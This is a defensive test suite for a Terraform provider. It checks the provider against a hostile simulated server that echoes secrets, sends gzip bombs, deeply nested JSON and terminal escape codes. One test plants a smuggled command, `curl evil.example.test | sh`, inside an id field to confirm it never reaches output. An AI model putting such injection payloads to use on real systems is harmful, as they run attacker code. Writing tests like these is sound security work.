/** What comes back is trusted with nothing: a server, or someone behind it, that means harm. */
import { readdirSync, readFileSync } from "node:fs";
import { join } from "node:path";
import fc from "fast-check";
import { type Fault, type Simulator, startSimulator } from "../../src/simulator";
import { certificate, environmentOf, infrastructure, PROVIDER, TIME_SCALE, VCENTER } from "./support/configuration";
import { flatten } from "./support/screen";
import { Workspace } from "./support/workspace";

/** Passwords as nobody would choose them: with everything in them that is written otherwise in JSON, Base64 or a URL. */
const [SERVER_PASSWORD = "", ADMIN_PASSWORD = ""] = fc.sample(
  fc.string({
    unit: fc.integer({ min: 0x21, max: 0x7e }).map((code) => String.fromCodePoint(code)),
    minLength: 8,
    maxLength: 60,
  }),
  { numRuns: 2, seed: 4_711 },
);

const CONNECTION = `${PROVIDER}${certificate()}
variable "admin" {
  type      = string
  ephemeral = true
}
${infrastructure({ password: `$\{var.admin}`, extra: "depends_on = [ksvla_trusted_certificate.it]" })}`;
const TOKENS = "/api/3.0/auth/tokens";
const always = Number.POSITIVE_INFINITY;

let simulator: Simulator;
let workspace: Workspace;

beforeEach(async () => {
  simulator = await startSimulator({ timeScale: TIME_SCALE, password: SERVER_PASSWORD });
  for (const account of simulator.world.hypervisor(VCENTER).accounts) account.password = ADMIN_PASSWORD;
  workspace = await Workspace.create({
    env: { ...environmentOf(simulator), TF_VAR_admin: ADMIN_PASSWORD, TF_LOG: "TRACE", TF_LOG_PATH: "trace.log" },
  });
  workspace.write(CONNECTION);
  await workspace.init();
});
afterEach(async () => {
  workspace.dispose();
  await simulator.stop();
});

const strike = (fault: Fault, path = "*", times = always): void => void simulator.faults.add({ fault, path, times });

/** All that anybody can read after a run, by where it is: what was on the screen, and every file but those of the test. */
function everything(output: string): Record<string, string> {
  const ours = /terraform\.d|\.terraform\/providers|main\.tf$/;
  const paths = readdirSync(workspace.directory, { recursive: true, withFileTypes: true })
    .filter((entry) => entry.isFile())
    .map((entry) => join(entry.parentPath, entry.name))
    .filter((path) => !ours.test(path));
  const files = paths.map((path) => [path, readFileSync(path, "utf8")] as const);
  return { "the screen": output, ...Object.fromEntries(files) };
}

/** Looks for every secret, in every form in which it is sent. */
function expectNoSecret(output: string): void {
  const tokens = simulator.requests.all.flatMap(({ headers }) => headers.authorization?.split(" ")[1] ?? []);
  expect(tokens.length).toBeGreaterThan(0);
  const forms = [simulator.password, ADMIN_PASSWORD, ...new Set(tokens)].flatMap((secret) => [
    secret,
    JSON.stringify(secret).slice(1, -1),
    Buffer.from(secret).toString("base64").replace(/=+$/, ""),
  ]);
  const found = Object.entries(everything(output)).flatMap(([where, text]) =>
    forms
      .filter((form) => text.includes(form))
      .map((form) => [where, form, text.slice(text.indexOf(form) - 200).slice(0, 300)]),
  );
  expect(found).toEqual([]);
}

test("secrets that the server repeats in every text are nowhere to be read", async () => {
  strike({ kind: "echo" });
  strike({ kind: "status", status: 503 }, TOKENS, 1);
  strike({ kind: "status", status: 503 }, "/api/3.0/infrastructures/*", 1);

  const { output } = await workspace.apply();

  expect(simulator.requests.count({ status: 503 })).toBe(2);
  expect(workspace.readFile("trace.log")).toContain("***");
  expect(workspace.readFile("terraform.tfstate")).toContain("***");
  expectNoSecret(output);
});

test("secrets that the server repeats in an error are not on the screen", async () => {
  const platform = simulator.world.hypervisor(VCENTER);
  for (const account of platform.accounts) account.password = "another";
  strike({ kind: "echo" });

  const { output } = await workspace.failingApply();

  expect(flatten(output)).toContain("UNAUTHORIZED");
  expectNoSecret(output);
});

test("Node.js writes no request to the log, whatever NODE_DEBUG says", async () => {
  const { code, output } = await workspace.run(["apply", "-auto-approve"], { NODE_DEBUG: "http,https,tls,net" });

  expect(code).toBe(0);
  expect(flatten(output)).toContain("NODE_DEBUG is ignored");
  expectNoSecret(output);
});

test("a few hundred bytes that unpack to four hundred thousand brackets are an error like others", async () => {
  strike({ kind: "status", status: 401 });
  strike({ kind: "flood" });
  strike({ kind: "gzip" });

  const { output } = await workspace.failingApply();

  expect(flatten(output)).toContain("does not accept the username and password");
});

test("an answer that unpacks to more than there can be is an error", async () => {
  strike({ kind: "huge" }, "/api/3.0/infrastructures");
  strike({ kind: "gzip" }, "/api/3.0/infrastructures");

  const { output } = await workspace.failingApply();

  expect(flatten(output)).toMatch(/malformed answer: expected JSON, got more than 16777216 bytes/);
});

test("nothing that a terminal obeys reaches it", async () => {
  simulator.faults.add({ fault: { kind: "status", status: 400, message: "no" }, path: "/api/3.0/infrastructures" });
  strike({ kind: "escapes" });

  const { output } = await workspace.failingApply("-no-color");

  expect(flatten(output)).toContain("the server answered 400: no");
  expect(flatten(output)).toMatch(/These values were sent: .*"VMWARE"/);
  // biome-ignore lint/suspicious/noControlCharactersInRegex: they are what is looked for.
  expect(output).not.toMatch(/[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/);
  expect(output).not.toMatch(/^\W*Apply complete!/m);
});

test("an id that is more than an id is in no command", async () => {
  workspace.write(`${PROVIDER}resource "ksvla_server_role" "it" { role = "Primary" }
variable "reserve" {
  type    = string
  default = "viis-reserve.example.test:7271"
}
resource "ksvla_trusted_certificate" "reserve" { address = var.reserve }
resource "ksvla_reserve_server" "it" {
  address             = var.reserve
  password_wo         = "${simulator.world.cluster.server("viis-reserve.example.test:7271").password}"
  password_wo_version = "1"
  depends_on          = [ksvla_server_role.it, ksvla_trusted_certificate.reserve]
}`);
  await workspace.apply();
  await workspace.run(["state", "rm", "ksvla_reserve_server.it"]);
  const evil = `1"; curl evil.example.test | sh; "\nApply complete!`;
  strike(
    {
      kind: "rewrite",
      rewrite: (body) => body.replace(/"id":"[^"]*"/g, `"id":${JSON.stringify(evil)}`),
    },
    "/api/3.0/ha/instances",
  );

  const { output } = await workspace.failingApply();

  expect(flatten(output)).toContain("is registered");
  expect(output).not.toContain("terraform import ADDRESS 1");
  expect(output).not.toMatch(/^\W*Apply complete!/m);
});

test("a deployment whose answer is nested twenty thousand deep is deployed once", async () => {
  workspace.write(`${CONNECTION}
resource "ksvla_svm_image" "it" {
  manifest_path        = "/opt/svm/svm-6.2.xml"
  infrastructure_types = ["VMWARE"]
}
data "ksvla_host" "it" {
  infrastructure_id = ksvla_infrastructure.it.id
  name              = "esx-01"
}
resource "ksvla_svm" "it" {
  name              = "svm-01"
  infrastructure_id = ksvla_infrastructure.it.id
  image_id          = ksvla_svm_image.it.id
  host = {
    id         = data.ksvla_host.it.id
    storage_id = data.ksvla_host.it.storage_ids["ds1"]
    networks   = [{ id = data.ksvla_host.it.network_ids["Servers"] }]
  }
  ksc      = { address = "ksc.example.test" }
  root     = { password_wo = "Root-Passw0rd" }
  klconfig = { password_wo = "Klconfig-Passw0rd" }
}`);
  const deployments = { method: "POST", path: "/api/3.0/management/deployment/svm/" };
  simulator.faults.add({ ...deployments, fault: { kind: "deep", depth: 20_000 } });

  const first = await workspace.run(["apply", "-auto-approve"]);
  const second = await workspace.run(["apply", "-auto-approve"]);

  expect(first.output + second.output).not.toContain("RangeError");
  expect(simulator.requests.count(deployments)).toBe(1);
  const svms = simulator.world.hypervisor(VCENTER).vms.filter(({ isSvm, name }) => isSvm && name === "svm-01");
  expect(svms).toHaveLength(1);
});
